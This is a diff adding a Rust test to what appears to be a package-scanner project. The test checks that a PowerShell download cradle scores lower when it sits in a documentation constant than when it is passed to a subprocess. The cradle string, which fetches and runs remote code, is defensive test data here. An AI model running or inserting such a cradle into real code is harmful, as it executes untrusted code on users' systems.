@@ -1557,3 +1557,29 @@ fn evidence_role_tells_import_time_from_function_bodies_even_in_broken_files() {
         assert_eq!(f.evidence[0].role, want, "{case}: {:?}", f.evidence[0]);
     }
 }
+
+/// Issue 11: findings in documentation weigh less than in code that runs. A plugin
+/// module's YAML documentation constant that shows a download cradle is read, not run;
+/// the same cradle handed to a process is still reported at full weight.
+#[test]
+fn documentation_constants_weigh_as_data() {
+    use crate::model::Severity;
+    let scanner = Scanner::new(Limits::default()).with_threads(1);
+    let cradle = "Invoke-Expression ((New-Object Net.WebClient).DownloadString($url))";
+    let cases = [
+        ("examples constant", format!("EXAMPLES = r'''\n- win_shell: |\n    {cradle}\n'''\n"), false),
+        (
+            "passed to a process",
+            format!("import subprocess\nsubprocess.run(['powershell', '-c', \"{cradle}\"])\n"),
+            true,
+        ),
+    ];
+    for (case, text, heavy) in cases {
+        let bytes = zip_of(&[("demo/modules/win.py", text.as_bytes())]);
+        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes);
+        let worst =
+            r.findings.iter().filter(|f| f.category != crate::model::Category::Metadata).map(|f| f.severity).max();
+        assert_eq!(worst.is_some_and(|s| s >= Severity::High), heavy, "{case}: {:#?}", r.findings);
+        assert!(!r.findings.is_empty() || !heavy, "{case}: still reported");
+    }
+}
